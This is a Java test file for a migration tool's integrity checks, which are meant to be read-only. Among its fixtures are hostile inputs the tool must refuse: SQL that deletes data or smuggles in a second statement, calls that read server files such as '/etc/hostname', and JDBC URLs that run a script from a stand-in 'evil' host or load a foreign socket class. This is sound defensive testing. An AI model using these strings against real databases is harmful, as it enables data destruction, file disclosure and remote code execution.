package dev.countersign.evidence.migration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.countersign.catalog.IntegrityChecks.Check;
import dev.countersign.catalog.IntegrityChecks.Deviation;
import dev.countersign.catalog.IntegrityChecks.Kind;
import dev.countersign.catalog.IntegrityChecks.Orphans;
import dev.countersign.evidence.migration.Databases.Of;
import dev.countersign.evidence.migration.MigrationProperties.Login;
import java.io.IOException;
import java.sql.Connection;
import java.sql.SQLException;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("M1.6")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CheckRunTests {
    private final List<Of> databases = Databases.both();

    CheckRunTests() throws SQLException {
        for (Of database : databases) {
            database.run(
                    "create table orders (id integer primary key, total numeric(10,2), note varchar(50), at_ timestamp)",
                    "insert into orders values (1, 10.50, 'a', timestamp '2026-01-01 10:00:00'), (2, 20.00, null, null), (3, 0.00, 'b', null)",
                    "create table line (id integer primary key, order_id integer)",
                    "insert into line values (1, 1), (2, 2), (3, null)");
        }
    }

    List<Of> databases() {
        return databases;
    }

    static Check sql(String sql) {
        return new Check("a", Kind.SQL, true, true, null, List.of(), List.of(), sql, null, null, Deviation.NONE);
    }

    static Check violating(String sql) {
        return new Check("a", Kind.CONSTRAINT, true, true, null, List.of(), List.of(), sql, null, null, Deviation.NONE);
    }

    static Check checksum(String table, List<String> columns, List<String> key) {
        return new Check("a", Kind.CHECKSUM, true, true, table, columns, key, null, null, null, Deviation.NONE);
    }

    static Check rows(String table) {
        return new Check(
                "a", Kind.ROW_COUNT, true, true, table, List.of(), List.of(), null, null, null, Deviation.NONE);
    }

    private static Measured measure(Of database, Check check) throws SQLException {
        return measure(database, check, 1_000);
    }

    private static Measured measure(Of database, Check check, long maxRows) throws SQLException {
        try (Connection connection = Databases.reading(database)) {
            return new CheckRun(Databases.properties(Map.of(), maxRows), Clock.systemUTC())
                    .measure(connection, List.of(check))
                    .get("a");
        }
    }

    @ParameterizedTest
    @MethodSource("databases")
    void each_kind_of_check_measures_its_value(Of database) throws SQLException {
        assertThat(measure(database, rows("orders"))).isEqualTo(Measured.of("3"));
        assertThat(measure(database, sql("select sum(total) from orders;"))).isEqualTo(Measured.of("30.5"));
        assertThat(measure(database, sql("with t as (select note from orders where id = 1) select note from t")))
                .isEqualTo(Measured.of("a"));
        assertThat(measure(database, violating("select id from orders where total < 0 -- none")))
                .isEqualTo(Measured.of("0"));
        assertThat(measure(database, violating("select id from orders where total > 0")))
                .isEqualTo(Measured.of("2"));
        Check orphans = new Check(
                "a",
                Kind.CONSTRAINT,
                true,
                true,
                null,
                List.of(),
                List.of(),
                null,
                new Orphans("line", "order_id", "orders", "id"),
                null,
                Deviation.NONE);
        assertThat(measure(database, orphans)).isEqualTo(Measured.of("0"));
        database.run("insert into line values (9, 77)");
        assertThat(measure(database, orphans)).isEqualTo(Measured.of("1"));
        database.run("delete from line where id = 9");
    }

    @ParameterizedTest
    @MethodSource("databases")
    void a_checksum_sees_every_value_and_no_wider_type(Of database) throws SQLException {
        Check check = checksum("orders", List.of("total", "note", "at_"), List.of("id"));
        String before = measure(database, check).value();
        assertThat(before).matches("[0-9a-f]{64}");

        database.run("alter table orders alter column total "
                + ("H2".equals(database.product()) ? "numeric(14,4)" : "type numeric(14,4)"));
        assertThat(measure(database, check).value()).isEqualTo(before);

        database.run("update orders set note = '' where id = 2");
        assertThat(measure(database, check).value()).isNotEqualTo(before);
        database.run("update orders set note = null where id = 2");
        assertThat(measure(database, check).value()).isEqualTo(before);
    }

    @ParameterizedTest
    @MethodSource("databases")
    void both_products_agree_on_a_checksum(Of database) throws SQLException {
        Check check = checksum("line", List.of("order_id"), List.of("id"));
        assertThat(measure(database, check)).isEqualTo(measure(databases.get(0), check));
    }

    @ParameterizedTest
    @MethodSource("databases")
    void what_cannot_be_measured_says_why(Of database) throws SQLException {
        assertThat(measure(database, rows("nowhere")).error()).containsIgnoringCase("nowhere");
        assertThat(measure(database, sql("select id from orders")).error()).contains("more than one row");
        assertThat(measure(database, sql("select id from orders where id = 0")).error())
                .contains("no row");
        assertThat(measure(database, sql("select id, note from orders where id = 1"))
                        .error())
                .contains("2 columns");
        assertThat(measure(database, sql("select note from orders where id = 2"))
                        .error())
                .contains("null");
        assertThat(measure(database, checksum("orders", List.of("note"), List.of("id")), 2)
                        .error())
                .contains("more than 2 rows");
        assertThat(measure(database, checksum("orders", List.of("id"), List.of("at_")))
                        .error())
                .contains("their order is not certain");
        String long_ = "select " + String.join(" || ", java.util.Collections.nCopies(7, "'" + "x".repeat(50) + "'"));
        assertThat(measure(database, sql(long_)).error()).contains("350 characters");
    }

    @ParameterizedTest
    @MethodSource("databases")
    void an_error_of_one_check_leaves_the_next_ones_be(Of database) throws SQLException {
        Check broken = sql("select nothing from orders");
        Check good = new Check(
                "b", Kind.ROW_COUNT, true, true, "orders", List.of(), List.of(), null, null, null, Deviation.NONE);
        try (Connection connection = Databases.reading(database)) {
            Map<String, Measured> measured = new CheckRun(Databases.properties(Map.of()), Clock.systemUTC())
                    .measure(connection, List.of(broken, good));
            assertThat(measured.get("a").error()).isNotBlank();
            assertThat(measured.get("b")).isEqualTo(Measured.of("3"));
        }
    }

    @ParameterizedTest
    @MethodSource("databases")
    void a_check_that_takes_too_long_is_stopped_by_the_database(Of database) throws SQLException {
        String endless = "H2".equals(database.product())
                ? "select count(*) from system_range(1, 100000) a, system_range(1, 100000) b where a.x + b.x < 0"
                : "select count(*) from generate_series(1, 100000) a, generate_series(1, 100000) b where a + b < 0";
        assertThat(measure(database, sql(endless)).error()).isNotBlank();
    }

    Stream<Arguments> writers() {
        return databases.stream().flatMap(database -> Stream.of(
                        "delete from orders",
                        "select 1; delete from orders",
                        "select 1; commit; delete from orders; select 1",
                        "select ';' || (select 1)",
                        "insert into orders (id) values (9)",
                        "drop table orders",
                        "/* */ delete from orders",
                        "call 1",
                        "set lock_timeout 1",
                        "explain analyze delete from orders",
                        "select id from final table (delete from orders)",
                        "with gone as (delete from orders returning id) select count(*) from gone",
                        "select 1 into kept from orders",
                        "select nextval('numbers')",
                        "select next /* */ value for numbers",
                        "select u&\"\\006eextval\"('numbers')",
                        "select \"NEXTVAL\"('numbers')",
                        "select set_config('transaction_read_only', 'off', false)",
                        "select lo_import('/etc/hostname')",
                        "select file_read('/etc/hostname')",
                        "select file_write('x', '/nowhere/x')",
                        "select csvwrite('/nowhere/x', 'select 1')",
                        "select 1) violating, (delete from orders) (select 1",
                        "selectively")
                .map(sql -> Arguments.of(database, sql)));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("writers")
    void a_check_that_writes_is_refused_and_has_no_effect(Of database, String sql) throws SQLException {
        database.run("drop sequence if exists numbers", "create sequence numbers");
        for (Check check : List.of(sql(sql), violating(sql))) {
            assertThat(measure(database, check).error()).isNotBlank();
        }
        assertThat(database.value("select count(*) from orders")).isEqualTo("3");
        assertThat(database.value("select nextval('numbers')")).isEqualTo("1");
    }

    @ParameterizedTest
    @MethodSource("databases")
    void a_user_who_may_do_everything_is_not_taken(Of database) {
        ReadOnlyConnections connections = new ReadOnlyConnections(Databases.properties(Map.of()));
        Login owner = new Login(database.url(), database.admin(), database.adminPassword(), null);
        assertThatThrownBy(() -> connections.open(owner))
                .isInstanceOf(IOException.class)
                .hasMessageContaining("the user is a");
    }

    @Test
    void a_database_that_is_not_there_is_not_made() {
        Login nowhere = new Login("jdbc:h2:mem:nowhere", "sa", "", null);
        assertThatThrownBy(() -> new ReadOnlyConnections(Databases.properties(Map.of())).open(nowhere))
                .isInstanceOf(SQLException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:orders",
                "jdbc:h2:mem:orders;MODE=PostgreSQL;LOCK_TIMEOUT=100",
                "jdbc:h2:file:/data/orders;ACCESS_MODE_DATA=r",
                "jdbc:h2:./data/orders",
                "jdbc:h2:tcp://db.example:9092/orders",
                "jdbc:postgresql://db.example/orders",
                "jdbc:postgresql://one:5432,two:5433/orders?targetServerType=primary&sslmode=verify-full&sslrootcert=/etc/ca.pem"
            })
    void plain_addresses_are_taken(String url) {
        assertThat(JdbcAddress.of(url).url()).isEqualTo(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "jdbc:mysql://db/orders",
                "jdbc:h2:mem:orders;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:orders;init=select",
                "jdbc:h2:mem:orders;INIT=x",
                "jdbc:h2:mem:orders;USER=sa",
                "jdbc:h2:mem:orders;MODE=x\\;INIT=y",
                "jdbc:h2:mem:orders;TRACE_LEVEL_FILE=3",
                "jdbc:h2:zip:/x.zip!/orders",
                "jdbc:h2:nio:/x",
                "jdbc:h2:file:/x;CIPHER=AES",
                "jdbc:h2:mem:orders;JMX=TRUE",
                "jdbc:h2:mem:orders;DB_CLOSE_DELAY=-1",
                "jdbc:h2:mem:orders;AUTHENTICATOR=true",
                "jdbc:postgresql://db/orders?socketFactory=evil.Factory",
                "jdbc:postgresql://db/orders?sslmode=require&socketFactoryArg=x",
                "jdbc:postgresql://db/orders?user=x",
                "jdbc:postgresql://db/orders?password=x",
                "jdbc:postgresql://db/orders?loggerFile=/x",
                "jdbc:postgresql://db/orders?options=-c",
                "jdbc:postgresql://db/orders?s%6fcketFactory=x",
                "jdbc:postgresql://user:secret@db/orders",
                "jdbc:postgresql:orders",
                "jdbc:postgresql://db/orders?service=x"
            })
    void whatever_loads_classes_or_runs_scripts_is_refused(String url) {
        assertThatThrownBy(() -> JdbcAddress.of(url)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void a_password_is_never_printed() {
        assertThat(new Login("jdbc:h2:mem:x", "reader", "hush-hush", null).toString())
                .doesNotContain("hush");
    }
}
